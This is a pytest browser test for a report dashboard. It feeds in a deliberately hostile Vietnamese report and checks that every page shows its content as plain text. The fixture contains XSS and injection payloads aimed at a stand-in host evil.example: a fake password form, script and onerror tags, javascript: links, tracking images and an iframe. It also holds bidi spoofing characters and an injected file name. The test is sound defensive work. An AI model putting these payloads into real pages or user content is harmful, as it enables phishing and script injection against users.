"""A hostile report (HTML, Markdown images and links, javascript: links, bidi and zero-width
characters, a hostile file name) imported through the product's own ingestion: every page
that shows report text shows it as text — no element and no request comes from it.

It runs on its own server and database, so the other browser tests see the usual data.
"""

from __future__ import annotations

import os

import pytest

from conftest import EDITOR

from browser.conftest import CHROMIUM, OfflinePage, _staff_accounts, streamlit_server
from conftest import seeded_copy

pytestmark = pytest.mark.browser

FILE_NAME = "[bấm](javascript:alert(1)) <b>đậm</b> ![x](http:__evil.example_f.png).txt"
REPORT = """UBND XÃ BÌNH CHƯƠNG
BÁO CÁO
Kết quả triển khai khoa học, công nghệ, đổi mới sáng tạo và chuyển đổi số 9 tháng đầu năm 2025

I. <form action="http://evil.example/login"><input type="password" name="p"></form>Đăng nhập lại
1. Hạ tầng ![ảnh](http://evil.example/pixel.png) [bấm](javascript:alert(1)) <img src="http://evil.example/x.png" onerror="alert(1)">
- Tỷ lệ hồ sơ thủ tục hành chính được nộp trực tuyến đạt 9\u200d0% <script>alert(1)</script> www.evil.example.
- Sơn\u202eiaM\u202c Mai :red[ĐỎ] *nghiêng* `mã` $x^2$ :material/home: a@evil.example.
2. [liên kết](http://evil.example/a) <a href="http://evil.example/b">mở</a> <iframe src="http://evil.example/f"></iframe>
II. Chuyển đổi số
- Có 312/540 hồ sơ thủ tục hành chính được nộp trực tuyến.
"""
COMMUNE = "21100"
EVIL = ("evil.example", "javascript:")


@pytest.fixture(scope="module")
def hostile_server(request, tmp_path_factory):
    if not os.path.exists(CHROMIUM):
        pytest.skip("Debian's chromium is not installed (make test installs it)")
    from dashboard.store import db
    from dashboard.ingest import ingest, read_bytes

    url = seeded_copy(request, tmp_path_factory.mktemp("hostile"))
    engine = db.connect(url)
    result = ingest(engine, read_bytes(REPORT.encode("utf-8"), FILE_NAME), actor=EDITOR)
    assert result.parsed.commune.code == COMMUNE and result.status == "imported"
    engine.dispose()
    _staff_accounts(url)
    with streamlit_server(url) as base:
        yield base


def _created_by_the_report(page) -> list[str]:
    """Elements inside the app's main area that only the hostile text could have made."""
    return page.eval_on_selector_all(
        '[data-testid="stMain"] *',
        r"""els => els.filter(e =>
              ['FORM', 'SCRIPT'].includes(e.tagName)
              || (['CODE', 'EM', 'STRONG'].includes(e.tagName) && /mã|nghiêng|đậm|ĐỎ/.test(e.textContent))
              || (e.tagName === 'INPUT' && e.type === 'password')
              || (e.tagName === 'B' && /đậm/.test(e.textContent))
              || (e.className && String(e.className).includes('katex'))
              || e.getAttributeNames().some(n => (/^on/.test(n) || ['href', 'src', 'action', 'formaction'].includes(n))
                                                   && /evil\.example|javascript:|mailto:|alert\(/.test(e.getAttribute(n))))
            .map(e => e.outerHTML.slice(0, 120))""")


@pytest.mark.parametrize("path, wait_for, expected", [
    (f"xa?xa={COMMUNE}", "text=Đăng nhập lại", ["<form action=", "Đăng nhập lại", "<b>đậm</b>"]),
    (f"xa?xa={COMMUNE}&cau=1&tim=dang+nhap&pham_vi=all", "mark", ["<form action=", "<input type="]),
    (f"xa?xa={COMMUNE}&tim=%3Cimg+src%3Dx%3E+%21%5Ba%5D%28http%3A%2F%2Fevil.example%2Fq.png%29", None,
     ["<img src=x>"]),
    ("duyet-bao-cao", '[data-testid="stDataFrame"]', ["Nhập và duyệt báo cáo"]),
])
def test_hostile_report_text_stays_text(hostile_server, browser, path, wait_for, expected):
    view = OfflinePage(browser, hostile_server, "projector")
    dialogs: list[str] = []
    view.page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    try:
        page = view.open(path, wait_for=wait_for, as_role="editor" if path == "duyet-bao-cao" else None)
        for expander in page.locator('[data-testid="stExpander"] summary').all()[:4]:
            expander.click()  # open the report's sections so their text is on the page
        view.wait_idle()
        text = page.inner_text('[data-testid="stMain"]').replace("\u2060", "")
        for snippet in expected:
            assert snippet in text, snippet
        assert "\u202e" not in text and "\u200d" not in text
        assert not _created_by_the_report(page)
        assert not [u for u in view.blocked if any(e in u for e in EVIL)], view.blocked
        assert not dialogs
        assert not view.errors_on_page()
        view.screenshot("hostile-" + path.split("?")[0])
    finally:
        view.close()
